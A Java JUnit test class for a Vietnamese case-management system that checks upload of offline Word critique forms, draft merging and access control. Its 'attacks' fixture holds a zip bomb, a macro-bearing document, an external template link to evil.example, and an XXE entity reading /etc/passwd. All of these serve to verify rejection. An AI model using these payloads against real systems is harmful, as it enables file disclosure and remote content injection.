package vn.phanbien.stories;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import tools.jackson.databind.JsonNode;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;

import vn.phanbien.document.SampleFiles;
import vn.phanbien.support.ApiClient;
import vn.phanbien.support.ApiReply;
import vn.phanbien.support.ApiUser;
import vn.phanbien.support.SmallPdf;
import vn.phanbien.support.WordEdit;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * An expert fills a critique in with Word and sends it back; it is read into the draft of
 * whoever sends it, and only the page decides.
 */
@SuppressWarnings("NullAway.Init")
abstract class OfflineFormStory {

	private static final String FILE = "phieu.docx";

	@Autowired
	private ApiClient api;

	@Autowired
	private JdbcClient database;

	private String caseNumber;

	private String step;

	private ApiUser expert;

	@BeforeEach
	void asksForCritiques() {
		SonLa sonLa = new SonLa(this.api);
		this.caseNumber = sonLa.assigned("CRITIQUE");
		this.step = sonLa.walkTo(this.caseNumber, "Task_SubmitCritique");
		this.expert = this.api
			.as(this.api.as(SonLa.CLERK).get("/work-items/" + this.step).ok().path("assignee").asString(""));
	}

	@Test
	void readsAFormIntoTheDraftAndDecidesNothing() {
		byte[] form = WordEdit.write(form(this.expert), "s1", "Cần thiết &amp; đúng luật");
		form = WordEdit.tick(WordEdit.tick(form, "conclusion.AGREE_WITH_CHANGES"), "confirmed.true");
		form = WordEdit.write(form, "general", "Đồng tình");

		JsonNode report = upload(form).ok();

		assertThat(report.path("filled").asInt()).isEqualTo(4);
		assertThat(report.path("unread")).isEmpty();
		assertThat(report.path("missing")).isEmpty();
		assertThat(report.path("changes").valueStream().map((change) -> change.path("field").asString("")))
			.containsExactlyInAnyOrder("s1", "general", "conclusion", "confirmed");
		assertThat(value("s1").asString("")).isEqualTo("Cần thiết & đúng luật");
		assertThat(value("conclusion").asString("")).isEqualTo("AGREE_WITH_CHANGES");
		assertThat(read().path("state").asString("")).isEqualTo("OPEN");

		this.expert
			.post("/work-items/" + this.step + "/complete", Map.of("decision", "SUBMIT", "version",
					read().path("version").asInt(), "fields", Map.of("s1", value("s1"), "general", value("general"),
							"conclusion", value("conclusion"), "confirmed", true, "attachments", value("attachments"))))
			.ok();
		assertThat(this.api.as(SonLa.OFFICER).get("/assignments/" + this.caseNumber + "/documents").text())
			.contains(FILE);
	}

	@Test
	void saysWhatIsStillMissing() {
		JsonNode report = upload(WordEdit.write(form(this.expert), "s1", "Cần thiết")).ok();

		assertThat(report.path("missing").valueStream().map((one) -> one.path("field").asString("")))
			.containsExactlyInAnyOrder("general", "conclusion", "confirmed");
	}

	@Test
	void keepsWhatThePageHasGotSinceAndTakesBackWhatWasDeleted() {
		save(Map.of("s2", "Sẽ bị xóa trong Word", "s3", "Cũ"));
		byte[] form = form(this.expert);
		save(Map.of("s2", "Sẽ bị xóa trong Word", "s3", "Mới trên trang", "s4", "Chỉ có trên trang"));

		JsonNode report = upload(
				WordEdit.body(WordEdit.write(form, "s1", "Từ Word"), (xml) -> xml.replace("Sẽ bị xóa trong Word", "")))
			.ok();

		assertThat(value("s1").asString("")).isEqualTo("Từ Word");
		assertThat(value("s2").asString("")).isEmpty();
		assertThat(value("s3").asString("")).isEqualTo("Mới trên trang");
		assertThat(value("s4").asString("")).isEqualTo("Chỉ có trên trang");
		assertThat(report.path("changes").valueStream().filter((one) -> one.path("field").asString("").equals("s2")))
			.singleElement()
			.satisfies((one) -> assertThat(one.path("before").asString("")).isEqualTo("Sẽ bị xóa trong Word"));
	}

	@Test
	void keepsTheFileOnceHoweverOftenItIsSent() {
		upload(WordEdit.write(form(this.expert), "s1", "Một")).ok();
		String second = upload(WordEdit.write(form(this.expert), "s1", " hai")).ok().path("document").asString("");

		assertThat(value("attachments")).singleElement()
			.satisfies((document) -> assertThat(document.asString("")).isEqualTo(second));
		assertThat(value("s1").asString("")).isEqualTo("Một hai");
	}

	@Test
	void refusesAFormOfAnotherCaseOrExpert() {
		SonLa sonLa = new SonLa(this.api);
		List<String> steps = sonLa.openSteps(this.caseNumber, "Task_SubmitCritique");
		byte[] own = form(this.expert);
		String other = sonLa.walkTo(sonLa.assigned("CRITIQUE"), "Task_SubmitCritique");
		byte[] elsewhere = this.api.as(SonLa.OFFICER).get("/work-items/" + other + "/form.docx").content();

		assertThat(code(upload(elsewhere))).isEqualTo("otherCase");
		assertThat(code(upload(WordEdit.body(WordEdit.part(own, "docProps/custom.xml", (xml) -> "<Properties/>"),
				(xml) -> xml.replaceAll("NX1\\.[\\w.]+", "")))))
			.isEqualTo("notOurs");
		steps.stream()
			.filter((one) -> !one.equals(this.step))
			.findFirst()
			.ifPresent((one) -> assertThat(
					code(this.api.as(SonLa.OFFICER).upload("/work-items/" + one + "/form.docx", FILE, own, Map.of())))
				.isEqualTo("otherPerson"));
		assertThat(read().path("draft").isNull()).isTrue();
	}

	@Test
	void showsNobodyAnotherPersonsDraft() {
		upload(WordEdit.write(form(this.expert), "s1", "Chỉ của tôi")).ok();
		String path = "/work-items/" + this.step + "/form.docx";

		this.api.as(SonLa.AUTHORITY).get(path).refused(404);
		this.api.as("th-chuyengia1").get(path).refused(404);
		this.api.as(SonLa.CLERK).get(path).refused(403);
		this.api.as("th-chuyengia1").upload(path, FILE, form(this.expert), Map.of()).refused(404);
		ApiReply secretarys = this.api.as(SonLa.OFFICER).get(path);
		assertThat(secretarys.status()).isEqualTo(200);
		assertThat(WordEdit.body(secretarys.content(), (xml) -> {
			assertThat(xml).doesNotContain("Chỉ của tôi");
			return xml;
		})).isNotEmpty();
	}

	@Test
	void letsTheSecretaryReadAFormInTheExpertsNameWithTheScan() {
		ApiUser secretary = this.api.as(SonLa.OFFICER);
		byte[] form = WordEdit.write(form(secretary), "general", "Viết tay, đánh máy lại");
		form = WordEdit.tick(WordEdit.tick(form, "conclusion.AGREE"), "confirmed.true");
		secretary.upload("/work-items/" + this.step + "/form.docx", FILE, form, Map.of()).ok();
		String scan = secretary
			.upload("/assignments/" + this.caseNumber + "/documents", "scan.pdf", SmallPdf.titled("Bản giấy"), Map.of())
			.ok()
			.path("id")
			.asString("");
		JsonNode item = secretary.get("/work-items/" + this.step).ok();

		secretary.post("/work-items/" + this.step + "/complete", Map.of("decision", "SUBMIT", "version",
				item.path("version").asInt(), "fields",
				Map.of("general", "Viết tay, đánh máy lại", "conclusion", "AGREE", "confirmed", true, "points",
						List.of(Map.of("problem", "Số liệu cũ", "page", "12"))),
				"onPaper",
				Map.of("signer", Map.of("username", this.expert.username()), "date", "2026-01-05", "file", scan)))
			.ok();

		String critiques = secretary.get("/assignments/" + this.caseNumber + "/rounds/1/critiques").ok().toString();
		assertThat(critiques).contains("Viết tay, đánh máy lại", "Số liệu cũ");
	}

	static Stream<Arguments> attacks() {
		byte[] zeros = new byte[30 * 1024 * 1024];
		return Stream.of(Arguments.of("empty", FILE, new byte[0]),
				Arguments.of("notWord", "phieu.pdf", SampleFiles.pdf()),
				Arguments.of("wrongExtension", FILE, SampleFiles.pdf()),
				Arguments.of("macros", FILE, SampleFiles.docxWith("word/vbaProject.bin", new byte[] { 1 })),
				Arguments.of("zipBomb", FILE, SampleFiles.docxWith("word/media/image1.png", zeros)),
				Arguments.of("externalContent", FILE,
						SampleFiles.docxWith("word/_rels/settings.xml.rels",
								("<Relationships><Relationship Type=\"x/attachedTemplate\" TargetMode=\"External\""
										+ " Target=\"https://evil.example/t.dotm\"/></Relationships>")
									.getBytes(StandardCharsets.UTF_8))),
				Arguments.of("damaged", FILE,
						SampleFiles.docxWith("word/document.xml",
								"<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"
									.getBytes(StandardCharsets.UTF_8))),
				Arguments.of("typeNotAllowed", FILE, new byte[] { (byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0,
						(byte) 0xa1, (byte) 0xb1, 0x1a, (byte) 0xe1 }),
				Arguments.of("notOurs", FILE, SampleFiles.docx()));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("attacks")
	void storesNothingOfWhatIsNoForm(String reason, String name, byte[] content) {
		long before = documents();

		ApiReply reply = this.expert.upload("/work-items/" + this.step + "/form.docx", name, content, Map.of());

		assertThat(code(reply)).isEqualTo(reason);
		assertThat(documents()).isEqualTo(before);
		assertThat(read().path("draft").isNull()).isTrue();
	}

	@Test
	void hasNoFormForOtherSteps() {
		SonLa sonLa = new SonLa(this.api);
		String other = sonLa.walkTo(sonLa.assigned("CRITIQUE"), "Task_PreparePlan");

		this.api.as(SonLa.OFFICER).get("/work-items/" + other + "/form.docx").refused(404);
	}

	private long documents() {
		return this.database.sql("select count(*) from document where case_number = ?")
			.param(this.caseNumber)
			.query(Long.class)
			.single();
	}

	private byte[] form(ApiUser user) {
		ApiReply reply = user.get("/work-items/" + this.step + "/form.docx");
		assertThat(reply.status()).as(reply.call()).isEqualTo(200);
		return reply.content();
	}

	private ApiReply upload(byte[] form) {
		return this.expert.upload("/work-items/" + this.step + "/form.docx", FILE, form, Map.of());
	}

	private static String code(ApiReply reply) {
		return reply.refused(422).path("errors").path(0).path("code").asString("");
	}

	private void save(Map<String, ?> fields) {
		this.expert.put("/work-items/" + this.step + "/draft", Map.of("fields", fields)).ok();
	}

	private JsonNode read() {
		return this.expert.get("/work-items/" + this.step).ok();
	}

	private JsonNode value(String name) {
		return read().path("fields")
			.valueStream()
			.filter((field) -> field.path("name").asString("").equals(name))
			.findFirst()
			.orElseThrow()
			.path("value");
	}

}
